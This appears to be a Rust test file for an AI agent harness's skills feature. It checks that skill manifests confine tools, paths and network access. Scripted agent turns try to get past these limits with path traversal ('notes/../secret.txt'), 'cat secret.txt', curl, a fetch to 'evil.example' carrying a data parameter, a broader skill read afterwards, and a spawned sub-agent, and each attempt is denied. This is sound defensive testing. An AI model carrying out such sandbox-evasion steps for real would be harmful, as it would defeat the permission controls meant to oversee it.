//! Skills in a turn: the index in the system prompt, `skills.read`
//! returning the instructions, a skill dropped into the workspace picked
//! up by the next turn.

use std::sync::Arc;
use std::time::Duration;

use flynn_orchestrator::SkillsRuntime;
use flynn_protocol::{ContentBlock, Message, Role};
use flynn_skills::{FixedEnvironment, Sources};
use serde_json::json;

use crate::{Harness, ScriptedModel, Setup, key};

fn write_skill(workspace: &std::path::Path, name: &str, description: &str, body: &str) {
    let dir = workspace.join("skills").join(name);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("manifest.json"),
        json!({"name": name, "description": description}).to_string(),
    )
    .unwrap();
    std::fs::write(dir.join("SKILL.md"), body).unwrap();
}

fn read_skill(id: &str, name: &str) -> Message {
    call(id, "skills.read", json!({"name": name}))
}

fn tool_result(message: &Message) -> (String, bool) {
    message
        .content
        .iter()
        .find_map(|b| match b {
            ContentBlock::ToolResult {
                content, is_error, ..
            } => Some((content.clone(), *is_error)),
            _ => None,
        })
        .unwrap()
}

#[tokio::test]
async fn the_index_is_in_the_prompt_and_the_body_comes_when_the_model_asks() {
    let dir = tempfile::tempdir().unwrap();
    let workspace = dir.path().to_path_buf();
    write_skill(
        &workspace,
        "deploy",
        "Deploy the app with the team's script.",
        "# Deploy\n\nRun `./deploy.sh staging` first, then production.\n",
    );
    let skills = SkillsRuntime::with_environment(
        Sources::new(&workspace.join("home"), &workspace),
        Arc::new(FixedEnvironment::new("linux")),
    )
    .reload_every(Duration::ZERO);
    let model = ScriptedModel::replies(
        "m",
        vec![
            read_skill("t1", "deploy"),
            Message::assistant("Staging first."),
            read_skill("t2", "nope"),
            Message::assistant("No such skill."),
        ],
    );
    let h = Harness::in_dir(
        dir,
        vec![model.clone()],
        Setup {
            skills: Some(skills),
            ..Setup::default()
        },
    )
    .await;
    let (result, _) = h.send(&key("cli:skills"), "ship it").await;
    assert_eq!(result.unwrap().reply, "Staging first.");
    let requests = model.requests();
    let system = requests[0].system.clone().unwrap_or_default();
    let index = |system: &str| {
        system
            .lines()
            .find(|line| line.starts_with("Skills: "))
            .map(str::to_owned)
            .unwrap_or_default()
    };
    assert!(index(&system).contains("deploy"), "{system}");
    assert!(system.contains("call `skills.read`"), "{system}");
    // The description is the tool's to give, not every request's.
    assert!(!system.contains("the team's script"), "{system}");
    // Only the index: the instructions are not in the prompt.
    assert!(!system.contains("deploy.sh"), "{system}");
    let (body, is_error) = tool_result(requests[1].messages.last().unwrap());
    assert!(!is_error);
    assert!(body.contains("Run `./deploy.sh staging` first"), "{body}");

    // A skill added between turns is offered on the next one; an unknown
    // name is an error the model reads.
    write_skill(
        &workspace,
        "backup",
        "Back up the database.",
        "Use `pg_dump`.\n",
    );
    let (result, _) = h.send(&key("cli:skills"), "and then?").await;
    assert_eq!(result.unwrap().reply, "No such skill.");
    let requests = model.requests();
    let system = requests[2].system.clone().unwrap_or_default();
    assert!(index(&system).contains("backup, deploy"), "{system}");
    let (error, is_error) = tool_result(requests[3].messages.last().unwrap());
    assert!(is_error, "{error}");
    assert!(error.contains("no skill is named 'nope'"), "{error}");
    assert!(
        error.contains("- backup — Back up the database."),
        "{error}"
    );
    assert!(
        error.contains("- deploy — Deploy the app with the team's script."),
        "{error}"
    );
}

fn call(id: &str, name: &str, input: serde_json::Value) -> Message {
    Message {
        role: Role::Assistant,
        content: vec![ContentBlock::ToolUse {
            id: id.into(),
            name: name.into(),
            input,
        }],
    }
}

#[tokio::test]
async fn a_skill_in_use_limits_the_turn_to_what_it_declares() {
    let dir = tempfile::tempdir().unwrap();
    let workspace = dir.path().to_path_buf();
    let skill = workspace.join("skills").join("notes");
    std::fs::create_dir_all(&skill).unwrap();
    std::fs::write(
        skill.join("manifest.json"),
        json!({
            "name": "notes",
            "description": "Read the notes.",
            "permissions": {"tools": ["file.read"], "paths": ["notes"]}
        })
        .to_string(),
    )
    .unwrap();
    std::fs::write(skill.join("SKILL.md"), "Read notes/todo.md.\n").unwrap();
    std::fs::create_dir_all(workspace.join("notes")).unwrap();
    std::fs::write(workspace.join("notes/todo.md"), "buy milk\n").unwrap();
    std::fs::write(workspace.join("secret.txt"), "hunter2\n").unwrap();
    let skills = SkillsRuntime::with_environment(
        Sources::new(&workspace.join("home"), &workspace),
        Arc::new(FixedEnvironment::new("linux")),
    );
    let model = ScriptedModel::replies(
        "m",
        vec![
            read_skill("t1", "notes"),
            call("t2", "file.read", json!({"path": "secret.txt"})),
            call("t3", "file.read", json!({"path": "notes/../secret.txt"})),
            call("t4", "shell.exec", json!({"command": "cat secret.txt"})),
            call("t5", "file.read", json!({"path": "notes/todo.md"})),
            Message::assistant("Milk."),
            // The next turn has read no skill: nothing beyond the policy.
            call("t6", "file.read", json!({"path": "secret.txt"})),
            Message::assistant("Read it."),
        ],
    );
    let h = Harness::in_dir(
        dir,
        vec![model.clone()],
        Setup {
            skills: Some(skills),
            ..Setup::default()
        },
    )
    .await;
    let (result, _) = h.send(&key("cli:notes"), "what is on my list?").await;
    assert_eq!(result.unwrap().reply, "Milk.");
    let requests = model.requests();
    let result_of = |n: usize| tool_result(requests[n].messages.last().unwrap());

    let (refused, is_error) = result_of(2);
    assert!(is_error);
    assert_eq!(
        refused,
        "file.read was denied: skill 'notes' may not use the path 'secret.txt': its manifest allows only the paths 'notes'"
    );
    let (refused, is_error) = result_of(3);
    assert!(is_error, "`..` does not lead out: {refused}");
    assert!(
        refused.contains("may not use the path 'notes/../secret.txt'"),
        "{refused}"
    );
    let (refused, is_error) = result_of(4);
    assert!(is_error);
    assert_eq!(
        refused,
        "shell.exec was denied: skill 'notes' may not call the tool 'shell.exec': its manifest allows only the tools 'file.read'"
    );
    let (allowed, is_error) = result_of(5);
    assert!(!is_error, "{allowed}");
    assert!(allowed.contains("buy milk"), "{allowed}");
    // Once the skill is read, the model is offered only what it declares
    // (and the tools no skill limits).
    let offered =
        |n: usize| -> Vec<String> { requests[n].tools.iter().map(|t| t.name.clone()).collect() };
    assert!(
        offered(0).iter().any(|t| t == "shell.exec"),
        "{:?}",
        offered(0)
    );
    assert_eq!(offered(1), ["file.read", "skills.read", "tools.search"]);

    let (result, _) = h.send(&key("cli:notes"), "and the secret?").await;
    assert_eq!(result.unwrap().reply, "Read it.");
    let requests = model.requests();
    let (content, is_error) = tool_result(requests[7].messages.last().unwrap());
    assert!(!is_error, "{content}");
    assert!(content.contains("hunter2"), "{content}");
    assert!(requests[6].tools.iter().any(|t| t.name == "shell.exec"));
}

fn skill_with(workspace: &std::path::Path, name: &str, permissions: serde_json::Value) {
    let dir = workspace.join("skills").join(name);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("manifest.json"),
        json!({"name": name, "description": name, "permissions": permissions}).to_string(),
    )
    .unwrap();
    std::fs::write(dir.join("SKILL.md"), format!("Follow {name}.\n")).unwrap();
}

/// A skill without network cannot run commands; every place a file tool
/// touches is checked (the workspace root a tool defaults to, a glob's
/// start); reading a broad skill after a narrow one lifts nothing; and a
/// sub-agent is held to the same limits.
#[tokio::test]
async fn skill_limits_cover_commands_every_path_later_skills_and_sub_agents() {
    let dir = tempfile::tempdir().unwrap();
    let workspace = dir.path().to_path_buf();
    skill_with(
        &workspace,
        "notes",
        json!({"tools": ["file.*", "shell.exec", "agents.spawn"], "paths": ["notes"]}),
    );
    skill_with(
        &workspace,
        "broad",
        json!({"tools": ["*"], "paths": ["."], "network": true}),
    );
    std::fs::create_dir_all(workspace.join("notes")).unwrap();
    std::fs::write(workspace.join("notes/todo.md"), "buy milk\n").unwrap();
    std::fs::write(workspace.join("secret.txt"), "hunter2\n").unwrap();
    let skills = SkillsRuntime::with_environment(
        Sources::new(&workspace.join("home"), &workspace),
        Arc::new(FixedEnvironment::new("linux")),
    );
    let main = ScriptedModel::replies(
        "m",
        vec![
            read_skill("t1", "notes"),
            call(
                "t2",
                "shell.exec",
                json!({"command": "curl https://example.org", "cwd": "notes"}),
            ),
            call("t3", "file.list", json!({})),
            call(
                "t4",
                "file.list",
                json!({"path": "notes", "pattern": "../*"}),
            ),
            read_skill("t5", "broad"),
            call("t6", "file.read", json!({"path": "secret.txt"})),
            call(
                "t7",
                "agents.spawn",
                json!({"task": "Read secret.txt", "tier": "fast", "tools": true}),
            ),
            Message::assistant("Done."),
        ],
    );
    let fast = ScriptedModel::replies(
        "f",
        vec![
            call("c1", "file.read", json!({"path": "secret.txt"})),
            Message::assistant("Could not."),
        ],
    );
    let mut models = crate::tiers(&["m/one"]);
    models.tiers.fast = vec!["f/cheap".parse().unwrap()];
    let h = Harness::in_dir(
        dir,
        vec![main.clone(), fast.clone()],
        Setup {
            models,
            skills: Some(skills),
            ..Setup::default()
        },
    )
    .await;
    let (result, _) = h.send(&key("cli:notes"), "go").await;
    assert_eq!(result.unwrap().reply, "Done.");
    let requests = main.requests();
    let results: Vec<(String, bool)> = (2..=7)
        .map(|n| tool_result(requests[n].messages.last().unwrap()))
        .collect();
    let not_notes = "its manifest allows only the paths 'notes'";
    assert_eq!(
        results,
        vec![
            (
                "shell.exec was denied: skill 'notes' may not use the network: its manifest does not declare network access (\"network\": true)".to_owned(),
                true
            ),
            (
                format!("file.list was denied: skill 'notes' may not use the path '.': {not_notes}"),
                true
            ),
            (
                format!("file.list was denied: skill 'notes' may not use the path 'notes/..': {not_notes}"),
                true
            ),
            ("Follow broad.\n".to_owned(), false),
            (
                format!("file.read was denied: skill 'notes' may not use the path 'secret.txt': {not_notes}"),
                true
            ),
            (results[5].0.clone(), false),
        ]
    );
    assert!(results[5].0.starts_with("Could not."), "{}", results[5].0);
    // The sub-agent read no skill itself; its parent's limits held it.
    let child = fast.requests();
    assert_eq!(
        tool_result(child[1].messages.last().unwrap()),
        (
            format!(
                "file.read was denied: skill 'notes' may not use the path 'secret.txt': {not_notes}"
            ),
            true
        )
    );
}

#[tokio::test]
async fn a_skills_net_hosts_hold_the_urls_its_turn_fetches() {
    let dir = tempfile::tempdir().unwrap();
    let workspace = dir.path().to_path_buf();
    skill_with(
        &workspace,
        "status",
        json!({"tools": ["web.fetch", "shell.exec"], "paths": ["."], "net": ["localhost"]}),
    );
    let skills = SkillsRuntime::with_environment(
        Sources::new(&workspace.join("home"), &workspace),
        Arc::new(FixedEnvironment::new("linux")),
    );
    let model = ScriptedModel::replies(
        "m",
        vec![
            read_skill("t1", "status"),
            call(
                "t2",
                "web.fetch",
                json!({"url": "https://evil.example/?d=x"}),
            ),
            // Loopback: the fetch's own guard refuses it without any
            // network, after the skill let it through.
            call(
                "t3",
                "web.fetch",
                json!({"url": "http://localhost:9/status"}),
            ),
            // A command is not a network tool: a listed `url` among its
            // arguments does not stand for where it goes.
            call(
                "t4",
                "shell.exec",
                json!({"command": "curl http://localhost:9/", "url": "http://localhost:9/"}),
            ),
            Message::assistant("Checked."),
        ],
    );
    let h = Harness::in_dir(
        dir,
        vec![model.clone()],
        Setup {
            skills: Some(skills),
            ..Setup::default()
        },
    )
    .await;
    let (result, _) = h.send(&key("cli:status"), "is the site up?").await;
    assert_eq!(result.unwrap().reply, "Checked.");
    let requests = model.requests();
    let (refused, is_error) = tool_result(requests[2].messages.last().unwrap());
    assert!(is_error);
    assert_eq!(
        refused,
        "web.fetch was denied: skill 'status' may not reach the host 'evil.example': its manifest allows only the hosts 'localhost'"
    );
    // A command naming a listed URL still needs `network`.
    let (refused, is_error) = tool_result(requests[4].messages.last().unwrap());
    assert!(is_error);
    assert!(refused.contains("may not use the network"), "{refused}");
    // The listed host passes the skill; web.fetch's own guard speaks next.
    let (fetched, _) = tool_result(requests[3].messages.last().unwrap());
    assert!(!fetched.contains("skill 'status' may not"), "{fetched}");
    assert!(fetched.contains("localhost"), "{fetched}");
}
